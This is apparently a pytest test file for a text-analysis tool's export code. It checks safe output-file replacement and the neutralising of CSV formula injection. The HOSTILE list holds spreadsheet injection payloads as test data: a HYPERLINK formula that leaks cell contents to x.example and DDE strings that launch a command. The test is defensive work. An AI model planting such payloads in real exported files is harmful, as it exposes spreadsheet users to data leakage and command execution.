"""Issue 11, exports: what --out may replace, temporary files, CSV formula injection, one registry."""
from __future__ import annotations

import csv
import os
import stat

import pytest

from explorer.core.store import ingest as ingest_mod
from explorer.core.export import gis
from explorer.core.export.gis import export
from explorer.core.export.output import ExportError
from explorer.core.export.registry import EXPORT_FORMATS, LAYERS
from explorer.core.store.ingest import ingest
from explorer.core.models import Event
from tests.fakes import FakeGeoparser

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def corpus(tmp_path, monkeypatch):
    monkeypatch.setattr(ingest_mod, "find_events", lambda a, t, ms: [
        Event(a.article_id, "airstrike", "Explosions/Remote violence", m.sentence_start, m.sentence_end, m.place,
              "strike", None, None, ("-actor", "=HYPERLINK(1)")) for m in ms])
    src = tmp_path / "src"
    src.mkdir()
    for i, cell in enumerate(HOSTILE):
        (src / f"h{i}.txt").write_text(cell + " Quetta was hit.\n", encoding="utf-8")
    with ingest([src], geoparser=FakeGeoparser()) as result:
        yield result.project


def _no_temp_files(folder):
    return [p.name for p in folder.iterdir() if ".part" in p.name or p.name.startswith(".")]


# ---------------------------------------------------------------- 3. what --out may replace

@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml", "gpkg"])
def test_a_device_is_never_replaced(corpus, fmt):
    with pytest.raises(ExportError, match="a character device, not a regular file"):
        export(corpus, "mentions", "/dev/full", fmt)
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)
    assert not os.path.exists("/dev/full.part")


def test_a_fifo_or_folder_is_refused_and_stays(corpus, tmp_path):
    fifo = tmp_path / "out.geojson"
    os.mkfifo(fifo)
    with pytest.raises(ExportError, match="a FIFO"):
        export(corpus, "mentions", fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    with pytest.raises(ExportError, match="a folder"):
        export(corpus, "mentions", tmp_path)
    assert _no_temp_files(tmp_path) == []


def test_a_symlink_is_written_through_and_stays_a_link(corpus, tmp_path):
    real = tmp_path / "data" / "mentions.geojson"
    real.parent.mkdir()
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "latest.geojson"
    link.symlink_to(real)
    assert export(corpus, "mentions", link) == corpus.counts()["mentions"]
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text(encoding="utf-8").startswith("{")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the file's permissions kept
    assert _no_temp_files(tmp_path) == [] and _no_temp_files(real.parent) == []


@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml", "gpkg"])
def test_a_failed_export_leaves_no_temporary_file_and_the_old_file(corpus, tmp_path, monkeypatch, fmt):
    out = tmp_path / f"out.{fmt}"
    out.write_text("old", encoding="utf-8")

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(gis, "_flat", broken)
    monkeypatch.setattr(gis, "_geojson_feature", broken)
    with pytest.raises(ExportError, match="the disk is full"):
        export(corpus, "mentions", out, fmt)
    assert out.read_text(encoding="utf-8") == "old"
    assert _no_temp_files(tmp_path) == []


def test_cli_export_to_a_device_is_an_error_not_a_replacement(corpus, tmp_path, monkeypatch, capsys):
    from explorer.cli import main

    monkeypatch.setattr(ingest_mod, "_default_geoparser", FakeGeoparser)
    (tmp_path / "a.txt").write_text("Quetta.", encoding="utf-8")
    assert main(["export", "--out", "/dev/full", str(tmp_path / "a.txt")]) == 1
    err = capsys.readouterr().err
    assert "error: cannot write /dev/full: it is a character device, not a regular file" in err
    assert "Traceback" not in err and stat.S_ISCHR(os.stat("/dev/full").st_mode)


# ---------------------------------------------------------------- 4. CSV formula injection

def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(corpus, tmp_path):
    for what in LAYERS:
        out = tmp_path / f"{what}.csv"
        export(corpus, what, out, "csv")
        with open(out, encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        assert rows
        for row in rows:
            for key, value in row.items():
                if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert key in ("lon", "lat") and float(value) < 0, (what, key, value)
    with open(tmp_path / "mentions.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    excerpts = sorted(r["excerpt"] for r in rows)
    # (an excerpt is a sentence: the tab or return before '=' is trimmed, and '=' is neutralised)
    assert excerpts == sorted("'" + c.lstrip() + " Quetta was hit." for c in HOSTILE)
    assert all(r["start"].isdigit() and r["lon"] == "67.00141" for r in rows)
    with open(tmp_path / "events.csv", encoding="utf-8", newline="") as f:
        assert next(csv.DictReader(f))["actors"] == "'-actor; =HYPERLINK(1)"


def test_a_negative_coordinate_stays_a_number(tmp_path):
    from explorer.core.export.gis import write_csv

    out = tmp_path / "n.csv"
    write_csv([((-70.5, -33.4), {"place_name": "-Santiago", "start": -1, "a": "\t=1", "b": "\r=1", "c": "a=1"})],
              ["place_name", "start", "a", "b", "c"], out)
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["-70.5", "-33.4", "'-Santiago", "-1", "'\t=1", "'\r=1", "a=1"]


# ---------------------------------------------------------------- one registry

def test_cli_and_gui_take_the_export_formats_from_the_registry():
    from explorer.cli import _parser

    names = [f.name for f in EXPORT_FORMATS]
    assert names == ["geojson", "gpkg", "kml", "csv"]
    sub = next(a for a in _parser()._actions if a.dest == "command").choices["export"]
    fmt = next(a for a in sub._actions if a.dest == "format")
    assert list(fmt.choices) == names
    from explorer.core.export.registry import file_dialog_filters

    filters = file_dialog_filters()
    assert list(filters.values()) == names and all("(*." in k for k in filters)


def test_cli_and_gui_take_the_input_formats_from_the_registry():
    from explorer.core.text.registry import ARTICLE_SUFFIXES, file_dialog_filter, help_text

    assert all(s in file_dialog_filter() for s in ARTICLE_SUFFIXES)
    assert all(s in help_text() for s in ARTICLE_SUFFIXES)
    from explorer.cli import _parser

    sub = next(a for a in _parser()._actions if a.dest == "command").choices["ingest"]
    paths = next(a for a in sub._actions if a.dest == "paths")
    assert all(s in paths.help for s in ARTICLE_SUFFIXES)
